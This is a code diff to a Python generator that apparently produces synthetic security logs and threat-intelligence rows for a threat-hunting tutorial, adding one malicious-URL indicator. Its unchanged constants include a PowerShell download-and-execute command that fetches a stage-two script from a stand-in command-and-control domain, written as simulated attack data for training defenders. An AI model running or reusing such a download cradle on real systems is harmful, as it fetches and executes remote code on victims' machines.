@@ -64,6 +64,7 @@ ATTACKER_WORKSTATION = "DESKTOP-8QK2L1M"   # the attacker's own machine name, se
 C2_DOMAIN = "cdn-updates.northwind-sync.xyz"
 C2_IP = "203.0.113.66"
 STAGE2_URL = "http://cdn-updates.northwind-sync.xyz/stage2.ps1"
+TOUR_TI_URL = "http://85.214.149.236:443/sugarcrm/themes/default/images/"   # the Tour's TI lookup example
 BEACON_URL = "https://cdn-updates.northwind-sync.xyz/api/beacon"
 BEACON_INTERVAL_S = 600                    # ~10 minutes, +-10% jitter
 STAGE2_SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://cdn-updates.northwind-sync.xyz/stage2.ps1')"
@@ -2170,6 +2171,13 @@ def gen_threatintel(n_benign=144):
             ti(t, "Phishing", RNG.randrange(40, 90), "Phishing sender", ["phishing", "email"],
                EmailSenderAddress=f"{pick(['billing', 'no-reply', 'support', 'hr'])}@{d}", EmailSourceDomain=d,
                EmailSubject=pick(["Payment overdue", "Your mailbox is full", "Shared document", "Invoice attached"]))
+    # Last, and on a saved random state, so that no other row changes: the URL the Tour looks up (its
+    # `Url.tilookup_url` pivot cell).
+    state = RNG.getstate()
+    ti(at(-3, "11:41:07"), "MaliciousUrl", 80, "Compromised web server hosting a malware download page",
+       ["url", "malware"], source=("AlienVault OTX", "AlienVault"), severity=4, Url=TOUR_TI_URL,
+       NetworkIP="85.214.149.236", NetworkDestinationIP="85.214.149.236", NetworkDestinationPort=443)
+    RNG.setstate(state)
 
 
 # ---------------------------------------------------------------------------------------------------------------
